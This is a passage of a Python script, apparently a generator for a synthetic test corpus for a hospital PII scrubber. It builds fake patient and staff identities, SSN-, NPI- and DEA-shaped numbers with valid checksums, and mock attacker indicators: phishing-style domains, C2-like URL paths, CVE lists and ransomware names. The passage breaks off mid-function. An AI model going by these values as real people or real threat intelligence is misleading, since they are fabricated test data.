#!/usr/bin/env python3
"""Second blind corpus for `ward scrub` (issue 18): what a hospital's or clinic's IT and security
staff paste into a threat-sharing tool, written without access to the scrubber, its results or
the other generators' templates.

    gen_blind2.py [OUT.jsonl]      (default: ../blind2/blind2.jsonl next to this folder)

Deterministic: seed SEED, Faker pinned in requirements.txt, fixed hash seed (spandoc re-executes
the interpreter with PYTHONHASHSEED=0). Every document is checked before it is written (see
`check`); a document that fails a check is drawn again and the number of redraws is printed.
"""

import datetime as dt
import ipaddress
import json
import os
import random
import re
import string
import sys
import unicodedata
import xml.etree.ElementTree as ET
from collections import Counter
from xml.sax.saxutils import escape as xml_escape

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from spandoc import Doc, I, X, N, ID, IND, NEU, manifest, record, write_corpus, other_words  # noqa: E402
from faker import Faker  # noqa: E402

SEED = 7207
R = random.Random(SEED)

# ---------------------------------------------------------------------------------------------
# locales

ORG_LOCALES = (["en_US"] * 9 + ["en_GB", "en_IE", "en_CA", "es_MX", "es_ES", "fr_FR", "de_DE",
               "pt_BR", "pl_PL", "nl_NL", "it_IT", "vi_VN", "ru_RU", "el_GR", "ko_KR", "ja_JP",
               "zh_TW", "tr_TR", "hi_IN", "ar_SA"])
# patient names: mostly the organization's locale, otherwise any of these
NAME_LOCALES = ["en_US", "es_MX", "fr_FR", "de_DE", "pt_BR", "pl_PL", "nl_NL", "it_IT", "vi_VN",
                "zh_CN", "zh_TW", "ar_AA", "ru_RU", "el_GR", "ja_JP", "ko_KR", "tr_TR", "hi_IN",
                "en_IE", "he_IL"]
FAKERS = {}


def fk(loc):
    if loc not in FAKERS:
        f = Faker(loc)
        f.seed_instance(SEED + len(FAKERS) * 101)
        FAKERS[loc] = f
    return FAKERS[loc]


LANG = {"es_MX": "es", "es_ES": "es", "fr_FR": "fr", "de_DE": "de", "pt_BR": "pt", "it_IT": "it",
        "nl_NL": "nl", "pl_PL": "pl"}
NONLATIN = {"zh_CN", "zh_TW", "ar_AA", "ar_SA", "ru_RU", "el_GR", "ja_JP", "ko_KR", "hi_IN",
            "he_IL"}
CJK = {"zh_CN", "zh_TW", "ja_JP", "ko_KR"}

# given names and surnames that are also English words (drawn for English-locale patients
# and staff now and then)
WORD_GIVEN_F = ["Hope", "Grace", "Rose", "Faith", "Joy", "June", "Dawn", "Ivy", "Holly", "Amber",
                "Crystal", "Summer", "Iris", "Pearl", "Destiny", "Autumn", "Brooke", "Sky"]
WORD_GIVEN_M = ["Will", "Mark", "Bill", "Jack", "Frank", "Drew", "Chase", "Grant", "Rusty",
                "Hunter", "Miles", "Cash", "Dean", "Royal", "Sonny", "Gene", "Art", "Ray"]
WORD_SURNAMES = ["Brown", "Young", "King", "Ward", "Price", "Banks", "Church", "Hall", "Fox",
                 "Rich", "Baker", "Cook", "Mason", "Moody", "Rice", "Sharp", "Little", "Long",
                 "Strong", "Wolf", "Bird", "Snow", "Stone", "Lamb", "Winter", "Marsh", "Short",
                 "Black", "White", "Green", "Gay", "Hope", "Waters", "Bush", "Field", "Bell"]
# a handful of hand-picked names with diacritics or particles, to be sure they occur
EXTRA_LATIN = [("Siobhán", "Ó Briain"), ("Zoë", "Van der Berg"), ("Łucja", "Wróblewska"),
               ("Jiří", "Dvořák"), ("Ásgeir", "Þórsson"), ("Søren", "Kierkegård"),
               ("Nguyễn", "Thị Ánh"), ("Çağla", "Öztürk"), ("Mihael", "Mihaljević"),
               ("João", "Conceição"), ("Renée", "D'Aubigné"), ("Ignacy", "Łukaszewicz"),
               ("Eoghan", "Mac Giolla Phádraig"), ("Zsófia", "Szőke"), ("Ana-María", "de la Peña"),
               ("Björn", "Åström"), ("Aurélie", "L'Hôpital"), ("Dóra", "Kővári")]

HONORIFIC = {"en": ("Mr.", "Ms.", "Mrs."), "es": ("Sr.", "Sra."), "fr": ("M.", "Mme"),
             "de": ("Herr", "Frau"), "pt": ("Sr.", "Sra."), "it": ("Sig.", "Sig.ra"),
             "nl": ("dhr.", "mevr."), "pl": ("Pan", "Pani")}


def ascii_fold(s):
    s = s.translate(str.maketrans({"ł": "l", "Ł": "L", "ø": "o", "Ø": "O", "ß": "ss", "đ": "d",
                                   "Đ": "D", "æ": "ae", "œ": "oe", "ı": "i", "þ": "th", "Þ": "Th"}))
    s = unicodedata.normalize("NFKD", s)
    return "".join(c for c in s if c.isascii() and (c.isalnum() or c in "-' "))


class Person:
    def __init__(self, given, family, loc, female):
        self.given, self.family, self.loc, self.female = given, family, loc, female
        self.middle = ""

    @property
    def cjk(self):
        return self.loc in CJK

    def full(self):
        if self.loc in ("zh_CN", "zh_TW", "ko_KR"):
            return self.family + self.given
        if self.loc == "ja_JP":
            return self.family + " " + self.given
        if self.loc == "hi_IN" or self.loc.startswith("ar") or self.loc == "he_IL":
            return self.given + " " + self.family
        return self.given + " " + self.family

    def last_first(self):
        return f"{self.family}, {self.given}"

    def latin(self):
        return self.loc not in NONLATIN

    def parts(self):
        return [p for p in re.split(r"[\s,]+", self.given + " " + self.family + " " + self.middle) if p]


def person(loc, rng, words=True):
    f = fk(loc)
    female = rng.random() < 0.55
    if loc in ("en_US", "en_GB", "en_IE", "en_CA") and words and rng.random() < 0.22:
        given = rng.choice(WORD_GIVEN_F if female else WORD_GIVEN_M)
        fam = rng.choice(WORD_SURNAMES) if rng.random() < 0.6 else f.last_name()
    elif words and rng.random() < 0.05:
        given, fam = rng.choice(EXTRA_LATIN)
        loc = "xx_LATIN"
    else:
        given = f.first_name_female() if female else f.first_name_male()
        fam = f.last_name()
        if loc in ("en_US", "en_GB", "en_IE", "en_CA") and words and rng.random() < 0.25:
            fam = rng.choice(WORD_SURNAMES)
    given = " ".join(given.split())
    fam = " ".join(fam.split())
    p = Person(given, fam, loc, female)
    if p.latin() and rng.random() < 0.3:
        p.middle = rng.choice(string.ascii_uppercase)
    return p


# ---------------------------------------------------------------------------------------------
# organizations

SAINTS = ["Mary's", "Luke's", "Joseph's", "Anne's", "Francis", "Vincent's", "Catherine's",
          "Elizabeth's", "Jude", "Agnes"]
US_SUFFIX = ["Regional Medical Center", "Community Hospital", "Health System", "Family Clinic",
             "Children's Hospital", "Orthopedic Associates", "Behavioral Health", "Cancer Institute",
             "Dialysis Center", "Women's Health Partners", "Imaging Center", "Surgical Hospital",
             "Rural Health Clinic", "Pediatrics", "Eye Institute", "Home Health"]
TR_CITIES = ["İstanbul", "Ankara", "İzmir", "Bursa", "Antalya", "Konya", "Gaziantep", "Kayseri",
             "Eskişehir", "Trabzon", "Samsun", "Mersin", "Diyarbakır", "Çanakkale", "Muğla"]
TR_STREETS = ["Atatürk Cd.", "Cumhuriyet Cd.", "İnönü Sk.", "Gül Sk.", "Menekşe Sk.", "Bağdat Cd.",
              "Fevzi Çakmak Cd.", "Lale Sk.", "Papatya Sk.", "Şehit Ömer Sk."]
AR_CITIES = ["الرياض", "جدة", "الدمام", "مكة المكرمة", "المدينة المنورة", "الطائف", "أبها", "تبوك",
             "الخبر", "بريدة"]
AR_STREETS = ["شارع الملك فهد", "شارع العليا", "طريق الأمير سلطان", "شارع التحلية", "شارع الستين",
              "طريق الملك عبدالله", "شارع الأمير محمد بن عبدالعزيز"]
HI_CITIES = ["Pune", "Lucknow", "Jaipur", "Indore", "Nagpur", "Bhopal", "Patna", "Kanpur", "Surat",
             "Vadodara", "Nashik", "Coimbatore", "Mysuru", "Raipur"]
HI_STREETS = ["MG Road", "Station Road", "Nehru Nagar", "Shivaji Nagar", "Gandhi Path",
              "Civil Lines", "Sector 14", "Ashok Vihar", "Rajendra Nagar", "Laxmi Colony"]

USER_CONV = ["first.last", "flast", "firstl", "lastf", "f.last", "first_last", "last.first",
             "empid", "FLAST", "lastfirst3"]
HOST_CONV = ["dept-num", "site-dept-ws", "WSnum", "upper-dept", "role-env-num", "lt-user",
             "asset-tag"]
MRN_SHAPES = ["d8", "Ed7", "d10", "M-d3-d3-d1", "yyyy-d7", "HXd5", "d2.d3.d3", "PATd6/d1",
              "d7", "Kd9"]

TLD = {"en_US": [".org", ".com", ".health", ".net"], "en_GB": [".nhs.uk", ".co.uk"],
       "en_IE": [".ie"], "en_CA": [".ca"], "es_MX": [".mx", ".com.mx"], "es_ES": [".es"],
       "fr_FR": [".fr"], "de_DE": [".de"], "pt_BR": [".com.br", ".org.br"], "pl_PL": [".pl"],
       "nl_NL": [".nl"], "it_IT": [".it"], "vi_VN": [".vn", ".com.vn"], "ru_RU": [".ru"],
       "el_GR": [".gr"], "ko_KR": [".kr", ".or.kr"], "ja_JP": [".jp", ".or.jp"],
       "zh_TW": [".tw", ".org.tw"], "tr_TR": [".com.tr", ".tr"], "hi_IN": [".in", ".co.in"],
       "ar_SA": [".sa", ".med.sa"]}


class Org:
    pass


def acronym(words):
    return "".join(w[0] for w in words if w and w[0].isalpha()).upper()


def make_org(loc, rng):
    f = fk(loc)
    o = Org()
    o.loc = loc
    if loc.startswith("en_"):
        k = rng.random()
        if k < 0.4:
            city = f.city()
            o.name = f"{city} {rng.choice(US_SUFFIX)}"
        elif k < 0.7:
            o.name = f"St. {rng.choice(SAINTS)} {rng.choice(['Medical Center', 'Hospital', 'Health', 'Clinic'])}"
        else:
            o.name = f"{f.last_name()} {rng.choice(['Memorial Hospital', 'Family Medicine', 'Medical Group', 'Health Partners'])}"
    elif loc in ("es_MX", "es_ES"):
        o.name = rng.choice([f"Clínica {f.last_name()}", f"Hospital General de {f.city()}",
                             f"Centro Médico {f.last_name()}", f"Sanatorio San {f.first_name_male()}"])
    elif loc == "fr_FR":
        o.name = rng.choice([f"Centre Hospitalier de {f.city()}", f"Clinique {f.last_name()}",
                             f"Maison de Santé {f.last_name()}"])
    elif loc == "de_DE":
        o.name = rng.choice([f"Klinikum {f.city()}", f"Praxisgemeinschaft {f.last_name()}",
                             f"St.-{f.first_name_female()}-Krankenhaus"])
    elif loc == "pt_BR":
        o.name = rng.choice([f"Hospital {f.last_name()}", f"Clínica São {f.first_name_male()}",
                             f"Santa Casa de {f.city()}"])
    elif loc == "pl_PL":
        o.name = rng.choice([f"Centrum Medyczne {f.last_name()}", f"Szpital Powiatowy nr {rng.randint(1, 9)} {f.last_name()}"])
    elif loc == "nl_NL":
        o.name = rng.choice([f"Ziekenhuis {f.city()}", f"Medisch Centrum {f.city()}", f"Huisartsenpraktijk {f.last_name()}"])
    elif loc == "it_IT":
        o.name = rng.choice([f"Ospedale {f.last_name()}", f"Policlinico {f.last_name()}", f"Casa di Cura {f.last_name()}"])
    elif loc == "vi_VN":
        o.name = rng.choice([f"Bệnh viện Đa khoa {f.last_name()} {f.first_name()}", f"Phòng khám {f.last_name()} {f.first_name()}"])
    elif loc == "ru_RU":
        o.name = f"Городская клиническая больница № {rng.randint(2, 70)} им. {f.last_name_male()}"
    elif loc == "el_GR":
        o.name = rng.choice([f"Κλινική {f.last_name_male()}", f"Γενικό Νοσοκομείο {f.city()}"])
    elif loc == "ko_KR":
        o.name = f"{f.last_name()}{f.first_name()}{rng.choice(['병원', '의원', '메디컬센터'])}"
    elif loc == "ja_JP":
        o.name = f"{f.last_name()}{rng.choice(['総合病院', 'クリニック', '記念病院'])}"
    elif loc == "zh_TW":
        o.name = f"{f.last_name()}{f.first_name()}{rng.choice(['紀念醫院', '診所', '綜合醫院'])}"
    elif loc == "tr_TR":
        o.name = f"Özel {f.last_name()} {rng.choice(['Hastanesi', 'Tıp Merkezi', 'Polikliniği'])}"
    elif loc == "hi_IN":
        o.name = f"{rng.choice(['Shree', 'Sanjeevani', 'Arogya', 'Jeevan'])} {fk('en_US').last_name()} {rng.choice(['Hospital', 'Multispeciality Clinic', 'Nursing Home'])}"
    else:  # ar_SA
        o.name = f"مستشفى {f.last_name()} {rng.choice(['التخصصي', 'العام', 'الأهلي'])}"
    o.name = " ".join(o.name.split())
    words = [w for w in re.split(r"[\s.\-]+", ascii_fold(o.name)) if w]
    ac = acronym(words)
    if len(ac) < 3:
        ac = ac + "".join(rng.choice(string.ascii_uppercase) for _ in range(3 - len(ac)))
    if not ac.isascii() or not ac.isalpha():
        ac = "".join(rng.choice(string.ascii_uppercase) for _ in range(4))
    o.short = ac[:6]
    base = o.short.lower() + rng.choice(["", "health", "med", "hc", "hosp", "clinic"])
    o.domain = base + rng.choice(TLD[loc])
    o.domains = [o.domain]
    if rng.random() < 0.35:
        o.domains.append(o.short.lower() + rng.choice(["-mail", "-care", "portal"]) + ".com")
    o.netbios = (o.short + rng.choice(["", "AD", "NET", "HC"]))[:15]
    o.user_conv = rng.choice(USER_CONV)
    o.host_conv = rng.choice(HOST_CONV)
    o.mrn_shape = rng.choice(MRN_SHAPES)
    o.lang = LANG.get(loc, "en")
    o.staff = []
    o.used_users = set()
    for _ in range(10):
        sp = person(loc, rng)
        o.staff.append(sp)
    for sp in o.staff:
        sp.user = make_user(o, sp, rng)
    o.lan = rng.choice(["10.{}.{}.{}", "172.{}.{}.{}", "192.168.{}.{}"])
    o.lan_a = rng.randint(1, 250)
    o.lan_b = rng.randint(16, 31)
    o.phone = org_phone(o, rng)
    return o


def make_user(o, p, rng):
    g, l = ascii_fold(p.given).replace(" ", "").replace("'", "").lower(), \
        ascii_fold(p.family).replace(" ", "").replace("'", "").lower()
    c = o.user_conv
    if not g or not l or c == "empid":
        u = rng.choice(["e", "u", "a", "x"]) + str(rng.randint(10000, 99999))
    elif c == "first.last":
        u = f"{g}.{l}"
    elif c == "flast":
        u = g[0] + l
    elif c == "firstl":
        u = g + l[0]
    elif c == "lastf":
        u = l + g[0]
    elif c == "f.last":
        u = g[0] + "." + l
    elif c == "first_last":
        u = g + "_" + l
    elif c == "last.first":
        u = l + "." + g
    elif c == "FLAST":
        u = (g[0] + l).upper()
    else:
        u = l[:5] + g[:1] + str(rng.randint(100, 999))
    if len(u) < 5:
        u += str(rng.randint(10, 99))
    while u in o.used_users:
        u += str(rng.randint(1, 9))
    o.used_users.add(u)
    return u


DEPTS = ["rad", "icu", "ed", "lab", "pharm", "onc", "peds", "ob", "or", "card", "ortho", "bill",
         "him", "reg", "nicu", "psych", "dial", "endo", "pacu", "fin"]


HOST_FORMS = {
    "dept-num": lambda o, rng, d, n: f"{d}-ws{n:02d}",
    "site-dept-ws": lambda o, rng, d, n: f"{o.short.lower()}-{d}-ws-{n:03d}",
    "WSnum": lambda o, rng, d, n: f"WS{rng.randint(1000, 99999)}",
    "upper-dept": lambda o, rng, d, n: f"{d.upper()}{rng.choice(['PC', 'WS', 'NB', 'KIOSK'])}{n:02d}",
    "role-env-num": lambda o, rng, d, n: (f"{rng.choice(['ehr', 'pacs', 'lis', 'ris', 'fhir', 'hl7', 'sql', 'citrix', 'sso', 'fs'])}"
                                          f"-{rng.choice(['prd', 'tst', 'dr'])}-{n:02d}"),
    "lt-user": lambda o, rng, d, n: f"LT-{rng.choice(string.ascii_uppercase)}{rng.choice(string.ascii_uppercase)}{rng.randint(100, 999)}",
    "server": lambda o, rng, d, n: f"{o.short.lower()}{rng.choice(['dc', 'fs', 'sql', 'exch', 'ctx', 'epic', 'mirth'])}{n:02d}",
    "asset-tag": lambda o, rng, d, n: f"{o.short}-{rng.randint(10000, 99999)}",
}


def host(o, rng, kind=None):
    """A host name in one of the organization's naming conventions (HOST_CONV, or `kind`)."""
    d = rng.choice(DEPTS)
    n = rng.randint(1, 60)
    return HOST_FORMS.get(kind or o.host_conv, HOST_FORMS["asset-tag"])(o, rng, d, n)


def server(o, rng):
    return host(o, rng, rng.choice(["server", "role-env-num"]))


def lan_ip(o, rng):
    if o.lan.startswith("10."):
        return o.lan.format(o.lan_a, rng.randint(0, 255), rng.randint(2, 254))
    if o.lan.startswith("172."):
        return o.lan.format(o.lan_b, rng.randint(0, 255), rng.randint(2, 254))
    return o.lan.format(o.lan_a, rng.randint(2, 254))


def org_phone(o, rng):
    if o.loc.startswith("en_US") or o.loc == "en_CA":
        return f"({rng.randint(201, 989)}) {rng.randint(200, 999)}-{rng.randint(0, 9999):04d}"
    return " ".join(fk(o.loc).phone_number().split())


# ---------------------------------------------------------------------------------------------
# patient data values

def mrn(o, rng):
    out = []
    for tok in re.findall(r"d\d+|yyyy|[^d]", o.mrn_shape):
        if tok.startswith("d") and len(tok) > 1:
            n = int(tok[1:])
            out.append("".join(rng.choice(string.digits) for _ in range(n)))
        elif tok == "yyyy":
            out.append(str(rng.randint(2009, 2026)))
        else:
            out.append(tok)
    return "".join(out)


def birth(rng, old=False):
    if old:
        y = rng.randint(1925, 1935)
    else:
        y = rng.randint(1938, 2024)
    return dt.date(y, rng.randint(1, 12), rng.randint(1, 28))


def age_of(b):
    ref = dt.date(2026, 11, 20)
    return ref.year - b.year - ((ref.month, ref.day) < (b.month, b.day))


def recent(rng, days=120):
    base = dt.datetime(2026, 12, 1, 0, 0)
    return base - dt.timedelta(minutes=rng.randint(0, days * 1440))


def fmt_date(d, style):
    mon = d.strftime("%b")
    return {"us": f"{d.month:02d}/{d.day:02d}/{d.year}", "iso": d.isoformat(),
            "eu": f"{d.day:02d}.{d.month:02d}.{d.year}", "uk": f"{d.day:02d}/{d.month:02d}/{d.year}",
            "dmy": f"{d.day:02d}-{mon}-{d.year}", "long": f"{d.strftime('%B')} {d.day}, {d.year}",
            "hl7": d.strftime("%Y%m%d"), "us1": f"{d.month}/{d.day}/{str(d.year)[2:]}",
            "jp": f"{d.year}年{d.month}月{d.day}日", "dash": f"{d.day:02d}-{d.month:02d}-{d.year}"}[style]


def date_style(o, rng):
    if o.loc in ("en_US", "en_CA"):
        return rng.choice(["us", "us", "iso", "long", "us1", "dmy"])
    if o.loc in ("ja_JP", "zh_TW", "ko_KR"):
        return rng.choice(["jp", "iso"])
    if o.loc in ("de_DE", "pl_PL", "ru_RU", "tr_TR"):
        return rng.choice(["eu", "iso"])
    if o.loc in ("nl_NL", "hi_IN"):
        return rng.choice(["dash", "uk"])
    return rng.choice(["uk", "iso", "dmy"])


def phone(o, rng):
    if o.loc in ("en_US", "en_CA"):
        a, b, c = rng.randint(201, 989), rng.randint(200, 999), rng.randint(0, 9999)
        return rng.choice([f"({a}) {b}-{c:04d}", f"{a}-{b}-{c:04d}", f"{a}.{b}.{c:04d}",
                           f"+1 {a} {b} {c:04d}", f"1-{a}-{b}-{c:04d}"])
    return " ".join(fk(o.loc).phone_number().split())


def ssn(rng):
    return f"{rng.randint(100, 665):03d}-{rng.randint(1, 99):02d}-{rng.randint(1, 9999):04d}"


def health_plan(rng):
    k = rng.random()
    if k < 0.3:  # Medicare beneficiary identifier shape
        al = "ACDEFGHJKMNPQRTUVWXY"
        return (f"{rng.randint(1, 9)}{rng.choice(al)}{rng.choice(al + string.digits)}{rng.randint(0, 9)}-"
                f"{rng.choice(al)}{rng.choice(al + string.digits)}{rng.randint(0, 9)}-"
                f"{rng.choice(al)}{rng.choice(al)}{rng.randint(0, 9)}{rng.randint(0, 9)}")
    if k < 0.6:
        return rng.choice(["XEH", "W", "ZGP", "YUB", "JQX", "H"]) + str(rng.randint(10 ** 8, 10 ** 9 - 1))
    return f"{rng.randint(100000, 999999)}-{rng.randint(10, 99)}"


def npi(rng):
    base = "1" + "".join(rng.choice(string.digits) for _ in range(8))
    digits = [int(c) for c in "80840" + base]
    total = 0
    for i, d in enumerate(reversed(digits)):
        if i % 2 == 0:
            d *= 2
            d = d - 9 if d > 9 else d
        total += d
    return base + str((10 - total % 10) % 10)


def dea(p, rng):
    fam = ascii_fold(p.family).upper() or "X"
    d = [rng.randint(0, 9) for _ in range(6)]
    chk = (d[0] + d[2] + d[4] + 2 * (d[1] + d[3] + d[5])) % 10
    return rng.choice("ABFM") + fam[0] + "".join(map(str, d)) + str(chk)


def state_license(rng):
    return rng.choice([f"MD{rng.randint(10000, 99999)}", f"RN{rng.randint(100000, 999999)}",
                       f"A{rng.randint(10000, 99999)}", f"{rng.randint(25, 27)}MA{rng.randint(1000000, 9999999)}",
                       f"LANR {rng.randint(100000000, 999999999)}", f"RPPS {rng.randint(10 ** 10, 10 ** 11 - 1)}"])


def device_serial(rng):
    k = rng.random()
    if k < 0.4:
        gtin = "0" + "".join(rng.choice(string.digits) for _ in range(13))
        exp = f"{rng.randint(26, 30)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}"
        return f"(01){gtin}(17){exp}(10){rng.choice(string.ascii_uppercase)}{rng.randint(1000, 99999)}(21){rng.choice(['', 'SN'])}{rng.randint(10 ** 6, 10 ** 9)}"
    if k < 0.7:
        return "".join(rng.choice(string.ascii_uppercase + string.digits) for _ in range(rng.randint(9, 12)))
    return f"{rng.choice(['PMP', 'CN', 'SN', 'ALR', 'BBR'])}-{rng.randint(10000, 99999)}-{rng.choice(string.ascii_uppercase)}{rng.randint(10, 99)}"


# vehicle plates by country: A a letter, C a consonant, 9 a digit, V a VIN character, [x|y] one of
PLATE_SHAPES = {
    "en_GB": ["AA99 AAA"],
    "en_IE": ["[19|21|23|24]1-[D|C|G|KY|L]-9999", "[20|22|25]2-[D|C|G|KY|L]-999"],
    "de_DE": ["[M|B|HH|K|F|S|DO]-AA 999", "[M|B|HH|K|F|S|DO]-A 9999"],
    "fr_FR": ["AA-999-AA"],
    "pt_BR": ["AAA9A99"],
    "pl_PL": ["[WA|KR|PO|GD|WR] 99999", "[WA|KR|PO|GD|WR] 9999A"],
    "nl_NL": ["99-CCC-9", "9-CCC-99"],
    "es_ES": ["9999 CCC"],
    "": ["9AAA999", "AAA-9999", "AAA 999", "V" * 17],
}
PLATE_CHARS = {"A": string.ascii_uppercase, "C": "BCDFGHJKLMNPRSTVWXYZ", "9": string.digits,
               "V": "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"}


def plate(o, rng):
    shape = rng.choice(PLATE_SHAPES.get(o.loc, PLATE_SHAPES[""]))
    out = []
    for lit, choice in re.findall(r"([^\[]?)(?:\[([^\]]*)\])?", shape):
        out.append(rng.choice(PLATE_CHARS[lit]) if lit in PLATE_CHARS else lit)
        if choice:
            out.append(rng.choice(choice.split("|")))
    return "".join(out)


def address(o, rng):
    """A postal address of the organization's country: a list of lines, each a list of slot
    values (identifier tuples and plain text; a state/region stays)."""
    f = fk(o.loc)
    loc = o.loc
    if loc in ("en_US",):
        street = f.street_address()
        line1 = [I(street, "ADDRESS")]
        if rng.random() < 0.2:
            line1 += [", ", I(f.secondary_address(), "ADDRESS")]
        if rng.random() < 0.08:
            line1 = [I(f"PO Box {rng.randint(10, 9999)}", "ADDRESS")]
        z = f.zipcode_plus4() if rng.random() < 0.25 else f.zipcode()
        return [line1, [I(f.city(), "CITY"), ", " + f.state_abbr() + " ", I(z, "ZIP")]]
    if loc == "en_CA":
        return [[I(f.street_address(), "ADDRESS")],
                [I(f.city(), "CITY"), " " + rng.choice(["ON", "BC", "QC", "AB", "NS"]) + " ",
                 I(f.postcode(), "ZIP")]]
    if loc in ("en_GB", "en_IE"):
        return [[I(f.street_address(), "ADDRESS")], [I(f.city(), "CITY")], [I(f.postcode(), "ZIP")]]
    if loc == "ja_JP":
        return [["〒", I(f.zipcode(), "ZIP"), " " + f.prefecture(), I(f.city(), "CITY"),
                 I(f.town() + f.chome() + f.ban() + f.gou(), "ADDRESS")]]
    if loc == "ko_KR":
        return [[I(f.street_address(), "ADDRESS"), " (", I(f.postcode(), "ZIP"), ")"]]
    if loc == "tr_TR":
        return [[I(f"{rng.choice(TR_STREETS)} No:{rng.randint(1, 180)} D:{rng.randint(1, 20)}", "ADDRESS")],
                [I(f"{rng.randint(10, 81)}{rng.randint(100, 999)}", "ZIP"), " ", I(rng.choice(TR_CITIES), "CITY")]]
    if loc == "ar_SA":
        return [[I(f"{rng.choice(AR_STREETS)} {rng.randint(1, 9999)}", "ADDRESS"), "، ",
                 I(rng.choice(AR_CITIES), "CITY"), " ", I(str(rng.randint(11000, 34999)), "ZIP")]]
    if loc == "hi_IN":
        return [[I(f"{rng.randint(1, 480)}, {rng.choice(HI_STREETS)}", "ADDRESS")],
                [I(rng.choice(HI_CITIES), "CITY"), " - ", I(f"{rng.randint(110, 855)}{rng.randint(0, 999):03d}", "ZIP")]]
    street = I(f.street_address(), "ADDRESS")
    pc = I(f.postcode(), "ZIP")
    city = I(f.city(), "CITY")
    if loc in ("de_DE", "nl_NL", "pl_PL", "es_ES", "fr_FR", "it_IT", "es_MX", "el_GR"):
        return [[street], [pc, " ", city]]
    if loc == "pt_BR":
        return [[street], [city, " - ", rng.choice(["SP", "RJ", "MG", "BA", "PR"]), ", ", pc]]
    return [[street], [city, " ", pc]]  # vi_VN, ru_RU, zh_TW


def addr_inline(o, rng, sep=", "):
    d = Doc()
    for k, line in enumerate(address(o, rng)):
        if k:
            d.t(sep)
        d.put(line)
    return d


def addr_block(o, rng, indent=""):
    d = Doc()
    for line in address(o, rng):
        d.t(indent)
        d.put(line)
        d.t("\n")
    return d


# ---------------------------------------------------------------------------------------------
# attacker-side values (indicators): written for this corpus

HOSTING_OCTETS = [5, 23, 31, 37, 45, 46, 62, 77, 80, 82, 85, 89, 91, 92, 93, 94, 95, 103, 104, 109,
                  138, 139, 141, 146, 147, 149, 154, 155, 159, 162, 167, 176, 178, 185, 188, 193,
                  194, 195, 206, 209, 212, 213, 217]


def pub_ip(rng):
    while True:
        ip = f"{rng.choice(HOSTING_OCTETS)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        if ipaddress.ip_address(ip).is_global:
            return ip


def pub_ip6(rng):
    return f"2a0{rng.randint(1, 9)}:{rng.randint(0x1000, 0xffff):x}:{rng.randint(0, 0xffff):x}::{rng.randint(1, 0xfff):x}"


DOM_HEADS = ["secure-docs", "billing-portal", "msftupdate", "okta-verify", "cdn-static",
             "helpdesk-reset", "medrecords-share", "fax-inbox", "ehr-sso", "voicemail-notice",
             "payroll-adjust", "docusign-review", "claims-status", "citrix-auth", "vpn-gateway",
             "teams-files", "sharepoint-viewer", "benefits-enroll", "dropbox-transfer", "mfa-sync"]
DOM_TLDS = [".top", ".xyz", ".ru", ".site", ".online", ".cc", ".info", ".click", ".shop", ".live",
            ".net", ".com", ".su", ".icu", ".buzz", ".cyou"]
FREEMAIL = ["protonmail.com", "proton.me", "gmail.com", "outlook.com", "onionmail.org",
            "tutanota.com", "cock.li", "mail.ru", "yandex.ru", "gmx.de", "firemail.cc", "tuta.io"]
ATTACKER_LOCAL = ["support.recovery", "decryptor", "helpdesk.team", "it.security.notice",
                  "payroll.dept", "hr-benefits", "claims.review", "ceo.office", "restore-files",
                  "secure.fax", "billing.notice", "doc.share"]


def domain_ind(rng):
    return rng.choice(DOM_HEADS) + (str(rng.randint(1, 99)) if rng.random() < 0.4 else "") + \
        ("-" + rng.choice(["login", "auth", "app", "cloud", "us", "hc"]) if rng.random() < 0.4 else "") + \
        rng.choice(DOM_TLDS)


def url_ind(rng, dom=None, defang=False):
    dom = dom or domain_ind(rng)
    path = rng.choice(["/login", "/auth/verify", "/file/", "/dl/", "/o365/", "/s/", "/invoice/",
                       "/wp-content/plugins/", "/api/v2/upload", "/c2/gate.php"])
    if path.endswith("/"):
        path += "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(rng.randint(6, 14)))
        if rng.random() < 0.4:
            path += rng.choice([".zip", ".iso", ".js", ".hta", ".msi"])
    u = f"https://{dom}{path}"
    if defang:
        u = u.replace("https://", "hxxps://").replace(".", "[.]", 1 if rng.random() < 0.5 else 5)
    return u


def hexs(rng, n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


CVES = ["CVE-2023-4966", "CVE-2024-3400", "CVE-2023-34362", "CVE-2024-1709", "CVE-2024-1708",
        "CVE-2023-20269", "CVE-2021-44228", "CVE-2024-21762", "CVE-2023-27350", "CVE-2024-6387",
        "CVE-2023-46604", "CVE-2024-55956", "CVE-2023-22515", "CVE-2024-21887", "CVE-2023-46805",
        "CVE-2025-0282", "CVE-2024-40766", "CVE-2023-3519", "CVE-2024-37085", "CVE-2022-47966",
        "CVE-2020-1472", "CVE-2021-34527", "CVE-2024-4577", "CVE-2023-48788"]
MITRE = ["T1486", "T1490", "T1059.001", "T1566.001", "T1566.002", "T1078", "T1133", "T1021.001",
         "T1003.001", "T1567.002", "T1048", "T1219", "T1105", "T1071.001", "T1562.001", "T1190",
         "T1110.003", "T1621", "T1136.001", "T1047", "T1018", "T1083", "TA0010", "TA0040",
         "T1530", "T1098.005"]
# ransomware and malware names; many are also English words or names
MALWARE = ["Play", "Akira", "Royal", "Rhysida", "Black Basta", "Medusa", "Hive", "Cuba", "Fog",
           "Lynx", "Embargo", "Interlock", "Cactus", "Trigona", "Money Message", "RansomHub",
           "INC Ransom", "Qilin", "BianLian", "SafePay", "Termite", "Daixin", "Karakurt", "Snatch",
           "Ryuk", "Conti", "LockBit", "ALPHV", "BlackCat", "Vice Society", "Rorschach", "Mallox",
           "Cl0p", "Babuk", "Abyss", "BlackSuit", "Helldown", "Hunters International", "Monti",
           "Cobalt Strike", "Mimikatz", "SystemBC", "QakBot", "IcedID", "AsyncRAT", "Remcos",
           "Gootloader", "Latrodectus", "Lumma", "RedLine", "Raspberry Robin", "SocGholish",
           "Sliver", "Brute Ratel", "Pikabot", "DarkGate", "Bumblebee", "Amadey", "Havoc"]
ACTORS = ["Scattered Spider", "Volt Typhoon", "Vanilla Tempest", "Octo Tempest", "Storm-0501",
          "Wizard Spider", "FIN7", "Evil Corp", "Andariel", "Silk Typhoon", "Sandworm", "TA505",
          "Moonstone Sleet", "Gold Blade", "Luna Moth", "Chatty Spider"]


def wallet(rng):
    if rng.random() < 0.6:
        return "bc1q" + "".join(rng.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))
